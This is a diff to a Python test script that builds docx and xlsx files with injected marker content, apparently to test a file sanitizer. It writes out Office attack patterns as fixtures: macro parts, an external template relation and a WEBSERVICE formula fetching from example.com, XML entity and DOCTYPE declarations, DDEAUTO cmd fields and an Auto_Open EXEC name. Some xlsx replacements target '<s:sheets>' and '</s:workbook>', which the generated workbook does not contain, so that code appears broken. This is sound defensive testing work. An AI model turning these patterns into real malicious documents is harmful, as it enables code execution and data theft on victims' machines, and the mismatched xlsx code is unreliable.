@@ -4,11 +4,13 @@
 an ordinary file goes through the liar (so the test can fail), and then with a seed of evil in it, which must not come out.
 
 Usage: liars.py BUILD"""
+import io
 import os
 import random
 import re
 import struct
 import sys
+import zipfile
 import zlib
 
 import rig
@@ -61,6 +63,72 @@ def line(data, mark, inserted):
     return before(data, mark, inserted + (b"\r\n" if b"\r\n" in data else b"\n"))
 
 
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+MAIN = {"docx": ("word/document.xml", "wordprocessingml.document"), "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet")}
+HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+
+
+def relations(*targets):
+    return HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>' % "".join(
+        '<Relationship Id="rId%d" Type="%s%s" Target="%s"/>' % (n, OFFICE, kind, target) for n, (kind, target) in enumerate(targets, 1))
+
+
+def office(kind):
+    """A small document, as a program writes it."""
+    main, media = MAIN[kind]
+    types = HEAD + ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType='
+                    '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
+                    '<Override PartName="/%s" ContentType="application/vnd.openxmlformats-officedocument.%s.main+xml"/>%%s</Types>' % (main, media))
+    parts = [("[Content_Types].xml", types % ""), ("_rels/.rels", relations(("officeDocument", main)))]
+    if kind == "docx":
+        parts += [(main, HEAD + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Report</w:t></w:r></w:p>'
+                                '</w:body></w:document>')]
+    elif kind == "xlsx":
+        parts[0] = (parts[0][0], types % ('<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+                                          'spreadsheetml.worksheet+xml"/>'))
+        space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+        parts += [(main, HEAD + '<workbook %s xmlns:r="%s"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>' % (space, OFFICE[:-1])),
+                  ("xl/_rels/workbook.xml.rels", relations(("worksheet", "worksheets/sheet1.xml"))),
+                  ("xl/worksheets/sheet1.xml", HEAD + '<worksheet %s><sheetData><row r="1"><c r="A1"><f>SUM(1,2)</f><v>3</v></c></row></sheetData></worksheet>' % space)]
+    return plain_zip(*parts)
+
+
+def repacked(change):
+    """A lie within a package: @change gets the list of [name, text] and may return another; the ZIP keeps its one form."""
+    def lie_of(data):
+        with zipfile.ZipFile(io.BytesIO(data)) as z:
+            members = [[i.filename, z.read(i)] for i in z.infolist()]
+        members = change(members) or members
+        return zip_of([record(name.encode(), content, flags=2048) for name, content in members])
+    return lie_of
+
+
+def replaced(name, old, new):
+    def change(members):
+        for member in members:
+            if member[0] == name:
+                assert old in member[1], (name, old, member[1])
+                member[1] = member[1].replace(old, new, 1)
+    return repacked(change)
+
+
+def office_lies(main, mark):
+    """Lies that any document can tell. @mark: where an element may stand in the main part."""
+    rels = re.sub(r"([^/]*)$", r"_rels/\1.rels", main)
+    gate = b'<Relationship Id="rId99" Type="%s" Target="%s" TargetMode="External"/></Relationships>'
+    return (("a macro part", repacked(lambda m: m + [["vbaProject.bin", b"\xd0\xcf\x11\xe0" + EVIL]])),
+            ("a relation to elsewhere", repacked(lambda m: m + [[rels, relations(("hyperlink", "x")).encode().replace(
+                b"</Relationships>", gate % (OFFICE.encode() + b"attachedTemplate", b"http://example.com/" + EVIL))]])),
+            ("a document type", replaced(main, HEAD.encode(), HEAD.encode() + b'<!DOCTYPE a SYSTEM "http://example.com/%s">' % EVIL)),
+            ("an entity", replaced(main, HEAD.encode(), HEAD.encode() + b'<!DOCTYPE a [<!ENTITY b "%s">]>' % EVIL)),
+            ("a comment", replaced(main, mark, b"<!--%s-->" % EVIL + mark)),
+            ("an element of its own", replaced(main, mark, b'<evil a="%s"/>' % EVIL + mark)),
+            ("a namespace", replaced(main, b" xmlns:", b' xmlns:evil="urn:%s" xmlns:' % EVIL)),
+            ("content types", replaced("[Content_Types].xml", b"</Types>", b'<Default Extension="bin" ContentType="%s"/></Types>' % EVIL)),
+            ("the same part twice", repacked(lambda m: m + [[main, EVIL]])),
+            ("bytes behind the end", lambda d: d + EVIL))
+
+
 # A lie for each place in which something could travel: name, from the sample's bytes to the liar's.
 LIES = {
     "png": (("a text chunk", lambda d: before(d, b"\0\0\0\0IEND", chunk(b"tEXt", b"k\0" + EVIL))),
@@ -101,6 +169,17 @@ LIES = {
     "txt": (("a control character", lambda d: d + b"\x1b[2J" + EVIL + b"\n"),
             ("a sign that turns the line", lambda d: d + "\u202e".encode() + EVIL + b"\n")),
 }
+
+
+LIES["docx"] = office_lies("word/document.xml", b"<w:body>") + (
+    ("DDE", replaced("word/document.xml", b"<w:r>", b'<w:fldSimple w:instr=" DDEAUTO cmd %s "><w:r><w:t>1</w:t></w:r></w:fldSimple><w:r>' % EVIL)),
+    ("an object", replaced("word/document.xml", b"<w:r>", b'<w:r><w:object w:dxaOrig="1"/><w:t>%s</w:t></w:r><w:r>' % EVIL)))
+LIES["xlsx"] = office_lies("xl/workbook.xml", b"<s:sheets>") + (
+    ("DDE", replaced("xl/worksheets/sheet1.xml", b"SUM(1,2)", b"cmd|'/c " + EVIL + b"'!A0")),
+    ("a formula that fetches", replaced("xl/worksheets/sheet1.xml", b"SUM(1,2)", b'WEBSERVICE("http://example.com/' + EVIL + b'")')),
+    ("a macro as a name", replaced("xl/workbook.xml", b"</s:workbook>",
+                                   b'<s:definedNames><s:definedName name="Auto_Open" xlm="1">EXEC("' + EVIL + b'")</s:definedName></s:definedNames></s:workbook>')))
+SOURCES.update({kind: office(kind) for kind in ("docx", "xlsx")})
 
 
 def sanitize(place, rules, name, content, *more):
